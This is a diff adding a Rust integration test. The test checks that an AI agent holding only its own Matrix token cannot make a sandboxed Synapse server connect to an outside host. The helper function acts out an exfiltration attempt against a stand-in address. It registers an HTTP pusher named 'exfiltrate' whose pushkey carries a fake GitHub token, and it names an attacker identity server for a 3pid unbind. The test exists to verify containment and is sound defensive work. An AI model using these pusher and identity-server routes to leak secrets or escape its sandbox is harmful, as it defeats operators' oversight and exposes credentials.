@@ -1429,3 +1429,185 @@ fn egress_values_are_checked() {
         );
     }
 }
+
+/// A public address of an "outside" host, inside the Synapse test's own
+/// namespace: none of Synapse's default refused ranges (which hold the
+/// documentation ranges and loopback) covers it, so only the appliance's
+/// settings can keep Synapse from it.
+const OUTSIDE_HOST: &str = "100.128.0.2";
+
+/// Runs `f` on a thread inside `netns`: its sockets are the namespace's.
+fn in_namespace<T: Send + 'static>(netns: &Netns, f: impl FnOnce() -> T + Send + 'static) -> T {
+    let path = netns.path();
+    std::thread::spawn(move || {
+        let file = fs::File::open(&path).unwrap();
+        rustix::thread::move_into_link_name_space(
+            std::os::fd::AsFd::as_fd(&file),
+            Some(rustix::thread::LinkNameSpaceType::Network),
+        )
+        .unwrap();
+        f()
+    })
+    .join()
+    .unwrap()
+}
+
+/// Synapse as a way out: an agent with only its own Matrix token registers
+/// an HTTP pusher (any URL, its pushkey carrying data) and names its own
+/// identity server (`/account/3pid/unbind`); Synapse, on the host and behind
+/// no proxy, must connect to neither. Real Synapse 1.163 with the generated
+/// settings, in a namespace of the test's own where a listener on a public
+/// address stands for the outside and counts every connection. The unit's
+/// address filter (`IPAddressDeny=any`) needs systemd and is checked in the
+/// generated module instead (render::synapse's tests).
+#[test]
+fn synapse_connects_nowhere_on_an_agents_word() {
+    let Some(venv) = crate::synapse::venv() else { return };
+    if !rustix::process::geteuid().is_root() {
+        assert!(
+            !in_ci(),
+            "the Synapse egress test makes a network namespace and must run as root in CI"
+        );
+        eprintln!("\n!!! SKIPPED: the Synapse egress test needs root; CI=true makes this a failure !!!\n");
+        return;
+    }
+    let temp = tempfile::tempdir().unwrap();
+    let (data, state) = (temp.path().join("synapse"), temp.path().join("state"));
+    let port = crate::synapse::free_port();
+    let settings = crate::synapse::settings(&data, &state, port);
+    let mut shared_secret = String::new();
+    for key in [
+        "registration_shared_secret_path",
+        "macaroon_secret_key_path",
+        "form_secret_path",
+    ] {
+        let path = PathBuf::from(settings[key].as_str().unwrap());
+        fs::create_dir_all(path.parent().unwrap()).unwrap();
+        let secret = format!("test-{key}-{}", std::process::id());
+        fs::write(&path, &secret).unwrap();
+        if key == "registration_shared_secret_path" {
+            shared_secret = secret;
+        }
+    }
+    let netns = Netns::create(&format!("h6s-{}", std::process::id()));
+    netns.ip(&["addr", "add", &format!("{OUTSIDE_HOST}/32"), "dev", "lo"]);
+    let url = format!("http://127.0.0.1:{port}");
+    let wrapper = vec!["nsenter".to_string(), format!("--net={}", netns.path()), "--".into()];
+    let mut synapse = crate::synapse::Synapse::spawn(&venv, &data, &settings, &url, &wrapper);
+    let server_name = settings["server_name"].as_str().unwrap().to_string();
+    let register = venv.join("bin/register_new_matrix_user");
+    let (seen, synapse) = in_namespace(&netns, move || {
+        let outside = std::net::TcpListener::bind(format!("{OUTSIDE_HOST}:0")).unwrap();
+        let outside_port = outside.local_addr().unwrap().port();
+        let connections = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
+        let counted = connections.clone();
+        std::thread::spawn(move || {
+            for stream in outside.incoming() {
+                counted.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+                drop(stream);
+            }
+        });
+        synapse.wait_ready();
+        agent_tries_to_get_synapse_out(&url, &register, &shared_secret, &server_name, outside_port);
+        std::thread::sleep(Duration::from_secs(5));
+        (connections.load(std::sync::atomic::Ordering::SeqCst), synapse)
+    });
+    let log = fs::read_to_string(&synapse.log).unwrap_or_default();
+    drop(synapse);
+    assert_eq!(
+        seen,
+        0,
+        "Synapse connected {seen} time(s) to the outside address an agent named:\n{}",
+        log.lines()
+            .filter(|l| l.contains("push") || l.contains("identity") || l.contains("lock"))
+            .collect::<Vec<_>>()
+            .join("\n")
+    );
+}
+
+/// What an agent with only its own token does to make Synapse connect to
+/// `OUTSIDE_HOST:port`: a pusher there, a message that makes Synapse push
+/// it, and an identity server there to unbind from.
+fn agent_tries_to_get_synapse_out(url: &str, register: &Path, shared_secret: &str, server_name: &str, port: u16) {
+    let client = agent_appliance::bootstrap::client::Client::new(
+        url,
+        Instant::now() + Duration::from_secs(120),
+        Duration::from_secs(30),
+    );
+    let token = |user: &str| {
+        run_ok(
+            Command::new(register)
+                .args(["--user", user, "--password", "pw-of-the-test", "--admin"])
+                .args(["--shared-secret", shared_secret, url]),
+        );
+        let login = client
+            .post(
+                "/_matrix/client/v3/login",
+                None,
+                &serde_json::json!({
+                    "type": "m.login.password",
+                    "identifier": { "type": "m.id.user", "user": user },
+                    "password": "pw-of-the-test",
+                }),
+            )
+            .unwrap();
+        assert!(login.ok(), "{}", login.describe());
+        login.str("access_token").unwrap().to_string()
+    };
+    let (admin, agent) = (token("admin"), token("agent"));
+    let pusher = client
+        .post(
+            "/_matrix/client/v3/pushers/set",
+            Some(&agent),
+            &serde_json::json!({
+                "kind": "http",
+                "app_id": "exfiltrate",
+                "pushkey": "GH_TOKEN=ghp_secret-of-the-agent",
+                "app_display_name": "x",
+                "device_display_name": "x",
+                "lang": "en",
+                "data": { "url": format!("http://{OUTSIDE_HOST}:{port}/_matrix/push/v1/notify") },
+            }),
+        )
+        .unwrap();
+    eprintln!("pusher registration: {}", pusher.describe());
+    let room = client
+        .post(
+            "/_matrix/client/v3/createRoom",
+            Some(&admin),
+            &serde_json::json!({ "invite": [format!("@agent:{server_name}")] }),
+        )
+        .unwrap();
+    assert!(room.ok(), "{}", room.describe());
+    let room_id = agent_appliance::bootstrap::client::segment(room.str("room_id").unwrap());
+    let joined = client
+        .post(
+            &format!("/_matrix/client/v3/rooms/{room_id}/join"),
+            Some(&agent),
+            &serde_json::json!({}),
+        )
+        .unwrap();
+    assert!(joined.ok(), "{}", joined.describe());
+    for n in 0..3 {
+        let sent = client
+            .put(
+                &format!("/_matrix/client/v3/rooms/{room_id}/send/m.room.message/m{n}"),
+                Some(&admin),
+                &serde_json::json!({ "msgtype": "m.text", "body": "hello agent" }),
+            )
+            .unwrap();
+        assert!(sent.ok(), "{}", sent.describe());
+    }
+    let unbind = client
+        .post(
+            "/_matrix/client/v3/account/3pid/unbind",
+            Some(&agent),
+            &serde_json::json!({
+                "medium": "email",
+                "address": "secret-of-the-agent@example.org",
+                "id_server": format!("{OUTSIDE_HOST}:{port}"),
+            }),
+        )
+        .unwrap();
+    eprintln!("3pid unbind: {}", unbind.describe());
+}
